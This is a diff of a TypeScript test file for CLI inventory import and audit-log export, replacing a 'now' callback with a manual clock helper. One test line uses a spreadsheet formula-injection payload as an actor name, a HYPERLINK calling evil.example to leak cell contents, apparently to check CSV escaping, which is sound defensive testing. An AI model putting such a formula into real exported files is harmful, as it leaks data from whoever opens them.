@@ -1,3 +1,4 @@
+import { manualClock } from '../support/manual-clock.js';
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { readFile } from 'node:fs/promises';
 import { tmpdir, userInfo } from 'node:os';
@@ -17,7 +18,7 @@ const budget = await cliBudget();
 describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) => {
   let store: TestDatabase;
   let dir: string;
-  const deps = () => ({ store, readFile: (path: string) => readFile(path, 'utf8'), now: () => now });
+  const deps = () => ({ store, readFile: (path: string) => readFile(path, 'utf8'), clock: manualClock(now) });
   beforeEach(async () => {
     store = await openTestDatabase(dialect);
     dir = mkdtempSync(join(tmpdir(), 'mxops-cli-'));
@@ -74,7 +75,7 @@ describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) =>
     const actor = '=HYPERLINK("http://evil.example/?x="&A1,"alice")';
     await runInventoryImport({ file: EXAMPLE, actor, claimed: true }, deps());
     const csv: string[] = [];
-    await runAuditExport({ format: 'csv' }, { store, now: () => now, write: (text) => csv.push(text) });
+    await runAuditExport({ format: 'csv' }, { store, clock: manualClock(now), write: (text) => csv.push(text) });
     const [header, first] = csv.join('').split('\n');
     expect(header).toBe('seq,at,actor,action,system,surface,details,prev_hash,hash');
     expect(first).toMatch(
@@ -109,7 +110,7 @@ describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) =>
     const chunks: string[] = [];
     await runAuditExport(
       { format: 'json', since: '2026-11-01' },
-      { store, now: () => now, write: (text) => chunks.push(text) },
+      { store, clock: manualClock(now), write: (text) => chunks.push(text) },
     );
     const entries = JSON.parse(chunks.join('')) as { seq: number; actor: string; details: string }[];
     expect(entries).toHaveLength(14);
@@ -117,11 +118,11 @@ describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) =>
     const csv: string[] = [];
     await runAuditExport(
       { format: 'csv', since: '1d' },
-      { store, now: () => Date.now() + 3 * 86_400_000, write: (text) => csv.push(text) },
+      { store, clock: manualClock(Date.now() + 3 * 86_400_000), write: (text) => csv.push(text) },
     );
     expect(csv.join('')).toBe('seq,at,actor,action,system,surface,details,prev_hash,hash\n');
     await expect(
-      runAuditExport({ since: 'last tuesday' }, { store, now: () => now, write: () => undefined }),
+      runAuditExport({ since: 'last tuesday' }, { store, clock: manualClock(now), write: () => undefined }),
     ).rejects.toThrow('neither a date');
 
     await sql`update audit_log set details = '{}' where seq = 5`.execute(store.db);
